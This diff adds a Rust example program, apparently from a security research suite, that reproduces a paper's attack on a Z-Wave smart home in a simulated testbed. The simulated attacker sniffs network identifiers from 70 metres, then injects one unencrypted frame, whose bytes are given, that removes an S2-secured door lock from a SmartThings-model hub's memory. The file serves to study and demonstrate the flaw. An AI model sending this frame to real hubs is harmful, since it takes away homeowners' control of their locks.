@@ -1,0 +1,62 @@
+//! The Figure 2 attack scenario, end to end.
+//!
+//! ```text
+//! cargo run --release --example smart_home_attack
+//! ```
+//!
+//! A Samsung SmartThings hub (D6) controls an S2-secured smart door lock.
+//! An attacker 70 metres outside the house (1) scans all Z-Wave traffic,
+//! (2-3) learns the network identifiers from sniffed status reports even
+//! though the application payload is encrypted, (4) deletes the lock from
+//! the controller's memory with a single unencrypted proprietary frame,
+//! and (5-6) the homeowner's lock command fails.
+
+use zcover_suite::zcover::{Dongle, PassiveScanner};
+use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed, LOCK_NODE};
+use zcover_suite::zwave_controller::HostState;
+
+fn main() {
+    let mut home = Testbed::new(DeviceModel::D6, 7);
+    println!("smart home: {} hub + S2 door lock (node 0x02) + legacy switch (node 0x03)", home.controller().config().brand);
+    println!("door lock paired with Security 2; hub memory:\n{}", home.controller().nvm().dump());
+
+    // (1) The attacker scans all Z-Wave network traffic from 70 m away.
+    let mut scanner = PassiveScanner::new(home.medium(), 70.0);
+    // (2) The lock reports status to the hub over S2 as part of normal
+    // operation; (3) the traffic is sniffed.
+    home.exchange_normal_traffic();
+    let scan = scanner.analyze().expect("traffic on the air");
+    println!(
+        "attacker sniffed {} frames: home id {}, controller {}, slaves {:?}",
+        scan.frames_captured,
+        scan.home_id,
+        scan.controller,
+        scan.slaves.iter().map(|n| n.to_string()).collect::<Vec<_>>()
+    );
+    assert!(home.lock().is_locked(), "door starts locked");
+
+    // (4) One unencrypted proprietary frame (CMDCL 0x01, CMD 0x0D with a
+    // truncated registration) deletes the lock from the hub's memory.
+    let mut dongle = Dongle::attach(home.medium(), 70.0);
+    dongle.inject_apl(scan.home_id, scan.spoof_source(), scan.controller, vec![0x01, 0x0D, LOCK_NODE.0]);
+    home.pump();
+
+    println!("\nattacker injected [0x01 0x0D 0x02] — unencrypted, CS-8 valid");
+    println!("hub memory after the attack:\n{}", home.controller().nvm().dump());
+    assert!(
+        !home.controller().nvm().contains(LOCK_NODE),
+        "the S2 door lock vanished from the controller's memory"
+    );
+
+    // (5-6) The homeowner tries to lock the door from the app: the hub no
+    // longer recognises the lock, so the command fails.
+    let fault = &home.controller().fault_log().records()[0];
+    println!(
+        "verified fault: bug #{:02} ({}) — homeowner can no longer control the lock",
+        fault.bug_id, fault.effect
+    );
+    if let Some(host) = home.controller().host() {
+        assert_eq!(host.state(), HostState::Running);
+    }
+    println!("\nattack complete: Figure 2 reproduced (command fail!)");
+}
